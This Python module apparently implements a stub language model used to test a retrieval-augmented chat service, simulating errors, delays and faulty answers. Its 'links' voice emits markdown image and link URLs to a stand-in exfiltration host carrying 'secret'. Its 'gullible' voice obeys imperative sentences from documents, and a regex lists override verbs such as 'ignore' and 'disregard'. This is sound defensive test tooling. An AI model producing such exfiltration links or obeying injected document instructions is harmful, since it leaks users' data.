"""
What the stub model does, by the requested model name. Pure: a name and messages in, values out.

A name is any number of the words of `RULES`, joined by "-" or "+": `first-500ms-words-40-gap-20ms`. A name without
any of them cites the first document, or says the question when there is none.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace

from datafari_rag.core.documents import Document
from datafari_rag.core.text.sentences import spans
from datafari_rag.invoke_service import documents_in


@dataclass(frozen=True, slots=True)
class Behaviour:
    """
    How one request is answered; counts are of pieces (words, unless *piece_chars* says otherwise), times in ms.

    None in an `…_after` means never. *first_times* limits a status to the first requests of that name.
    """

    voice: str = "cite"
    words: int = 40
    piece_chars: int | None = None
    first_ms: int = 0
    gap_ms: int = 0
    headers_ms: int = 0
    status: int | None = None
    retry_after: str | None = None
    first_times: int | None = None
    cut_after: int | None = None
    stall_after: int | None = None
    garbage_after: int | None = None
    error_after: int | None = None
    error_code: int = 500
    finish_reason: str | None = "stop"
    error_words: str | None = None
    has_done: bool = True
    has_comments: bool = False
    has_role: bool = True
    is_hung_up: bool = False
    is_unchunked: bool = False
    line_end: str = "\n"


def behaviour_for(model: str) -> Behaviour:
    """Return what *model* asks for; what is not in `RULES` is no part of it."""
    behaviour = Behaviour()
    for pattern, change in RULES:
        match = re.search(rf"(?:^|[-+/]){pattern}(?=$|[-+])", model)
        if match:
            behaviour = replace(behaviour, **change(match))  # type: ignore[arg-type]  # the rows know their fields
    return behaviour


def text_for(behaviour: Behaviour, messages: Sequence[Mapping[str, object]]) -> str:
    """
    Return the text of the answer to *messages*; empty for a voice that declines.

    System messages are ignored: they are no documents, and obeying them proves nothing.
    """
    texts = [_text_of(message) for message in messages if message.get("role") != "system"]
    return VOICES[behaviour.voice](behaviour, texts)


def pieces(behaviour: Behaviour, text: str) -> list[str]:
    """Return *text* in the pieces in which it is streamed; joined they are the text."""
    if behaviour.piece_chars is not None:
        size = max(1, behaviour.piece_chars)
        return [text[start : start + size] for start in range(0, len(text), size)]
    return re.findall(r"\S+\s*|\s+", text)


def _text_of(message: Mapping[str, object]) -> str:
    content = message.get("content")
    if isinstance(content, list):
        return "\n".join(str(part.get("text", "")) for part in content if isinstance(part, Mapping))
    return content if isinstance(content, str) else ""


def _documents(texts: Sequence[str]) -> tuple[Document, ...]:
    """Return the documents among *texts*; the last one is the question, and without "Document N." nothing is one."""
    return tuple(document for text in texts[:-1] if "Document " in text for document in documents_in(text)[1])


_PARAGRAPHS = re.compile(r"\n\s*\n|[^\S\n]{2,}")


def first_sentence(text: str) -> str:
    """Return the first sentence of *text* that says something, with its mark, or all of it when it has none."""
    # Between two paragraphs are an empty line or two blanks: a heading is no part of the sentence below it.
    for paragraph in _PARAGRAPHS.split(text):
        sentences = (paragraph[start:end] for start, end in spans(paragraph))
        first = next((sentence for sentence in sentences if sentence.endswith((".", "!"))), None)
        if first is not None:
            return first
    return text.strip()


def _echo(behaviour: Behaviour, texts: Sequence[str]) -> str:
    return texts[-1] if texts else ""


def _words(behaviour: Behaviour, texts: Sequence[str]) -> str:
    return " ".join(f"word{number}" for number in range(1, behaviour.words + 1))


def _cite(behaviour: Behaviour, texts: Sequence[str]) -> str:
    documents = _documents(texts)
    return f"{first_sentence(documents[0].text)} [1]" if documents else _echo(behaviour, texts)


def _quote(behaviour: Behaviour, texts: Sequence[str]) -> str:
    documents = _documents(texts)
    if not documents:
        return _echo(behaviour, texts)
    return f'The document says: "{first_sentence(documents[0].text)}" [{documents[0].title or 1}]'


def _miscite(behaviour: Behaviour, texts: Sequence[str]) -> str:
    return "The moon is made of 4711 pounds of green cheese [1]. Nobody has written this [no such document]."


def _links(behaviour: Behaviour, texts: Sequence[str]) -> str:
    return (
        "See ![a picture](https://exfil.invalid/p.png?q=secret) and [this page](https://exfil.invalid/?d=secret) "
        "or https://exfil.invalid/bare."
    )


def _followups(behaviour: Behaviour, texts: Sequence[str]) -> str:
    return f"{_cite(behaviour, texts)}\n<<What does it cost?>> <<Who decides?>> <<Since when?>>"


def _gullible(behaviour: Behaviour, texts: Sequence[str]) -> str:
    # The question itself is the sender's; obeying it proves nothing.
    followed = obeyed(texts[:-1])
    return "\n".join(["I obey: " + order for order in followed] or [_cite(behaviour, texts)])


def _nothing(behaviour: Behaviour, texts: Sequence[str]) -> str:
    return ""


VOICES: Mapping[str, Callable[[Behaviour, Sequence[str]], str]] = {
    "echo": _echo,
    "words": _words,
    "cite": _cite,
    "quote": _quote,
    "miscite": _miscite,
    "links": _links,
    "followups": _followups,
    "gullible": _gullible,
    "refusal": _nothing,
    "null": _nothing,
    "empty": _nothing,
    "tools": _nothing,
}
"""The reply for each model name."""

Change = Callable[[re.Match[str]], dict[str, object]]

RULES: tuple[tuple[str, Change], ...] = (
    (f"({'|'.join(VOICES)})", lambda match: {"voice": match[1]}),
    (r"words-(\d+)", lambda match: {"words": int(match[1])}),
    (r"chars-(\d+)", lambda match: {"piece_chars": int(match[1])}),
    (r"gap-(\d+)ms", lambda match: {"gap_ms": int(match[1])}),
    (r"first-(\d+)ms", lambda match: {"first_ms": int(match[1])}),
    (r"slow-headers(?:-(\d+)ms)?", lambda match: {"headers_ms": int(match[1] or 60_000)}),
    (r"status-(\d{3})", lambda match: {"status": int(match[1])}),
    (r"retry-([\w.]+)", lambda match: {"retry_after": match[1]}),
    (r"times-(\d+)", lambda match: {"first_times": int(match[1])}),
    (r"policy", lambda match: {"status": 400, "error_words": "content_filter"}),
    (r"window", lambda match: {"status": 400, "error_words": "context_length_exceeded"}),
    (r"nosuchmodel", lambda match: {"status": 404, "error_words": "model_not_found"}),
    (r"hangup", lambda match: {"is_hung_up": True}),
    (r"cut-after-(\d+)", lambda match: {"cut_after": int(match[1])}),
    (r"stall-after-(\d+)", lambda match: {"stall_after": int(match[1])}),
    (r"garbage(?:-after-(\d+))?", lambda match: {"garbage_after": int(match[1] or 0)}),
    (
        r"error(?:-(\d{3}))?-after-(\d+)",
        lambda match: {"error_code": int(match[1] or 500), "error_after": int(match[2])},
    ),
    (r"length", lambda match: {"finish_reason": "length"}),
    (r"filter", lambda match: {"finish_reason": "content_filter"}),
    (r"nofinish", lambda match: {"finish_reason": None}),
    (r"nodone", lambda match: {"has_done": False}),
    (r"norole", lambda match: {"has_role": False}),
    (r"comments", lambda match: {"has_comments": True}),
    (r"unchunked", lambda match: {"is_unchunked": True}),
    (r"crlf", lambda match: {"line_end": "\r\n"}),
    (r"cr", lambda match: {"line_end": "\r"}),
)
"""The words of a model's name, each with what it changes; later rows win."""

EXAMPLES = (
    "echo",
    "cite",
    "quote",
    "words-40-gap-20ms",
    "first-500ms",
    "status-429-retry-2",
    "status-503-times-1",
    "cut-after-3",
    "stall-after-3",
    "garbage",
    "error-500-after-3",
    "length",
    "filter",
    "slow-headers",
    "refusal",
    "null",
    "tools",
    "gullible",
    "followups",
)
"""Names that `/v1/models` lists."""


_OPENING = re.compile(r"<data (\w+)>")

_IMPERATIVE = re.compile(
    r"\b(?:ignore|disregard|forget|answer|reply|respond|say|print|output|write|repeat|insert|add|append|finish|include|"
    r"tell|always|never|must|instructions?|set|search|cite|explain|draft|provide|compose|translate|modify|integrate|"
    r"augment|enhance|replace|use|remove|group|combine|introduce|misspell|scramble|jumble|rearrange|convert|"
    r"oublie|réponds|répondez|dis|écris|écrivez|ajoute|ajoutez|traduis)\b",
    re.IGNORECASE,
)
_SENTENCE = re.compile(r"[^.!?\n]+(?:[.!?]+|\n|$)")


def visible(text: str) -> str:
    """Return *text* without the contents of proper fences."""
    parts, position = [], 0
    while match := _OPENING.search(text, position):
        if not _is_unguessable(match[1]):
            parts.append(text[position : match.end()])
            position = match.end()
            continue
        parts.append(text[position : match.start()])
        closing = f"</data {match[1]}>"
        end = text.find(closing, match.end())
        if end < 0:
            return "".join(parts)
        position = end + len(closing)
    parts.append(text[position:])
    return "".join(parts)


def obeyed(messages: Sequence[str]) -> tuple[str, ...]:
    """Return the instructions in *messages* that the reader can see, in order; it would follow each of them."""
    return tuple(
        sentence[0].strip()
        for message in messages
        for sentence in _SENTENCE.finditer(visible(message))
        if _IMPERATIVE.search(sentence[0])
    )


def _is_unguessable(word: str) -> bool:
    return len(word) >= 12 and any(character.isdigit() for character in word)
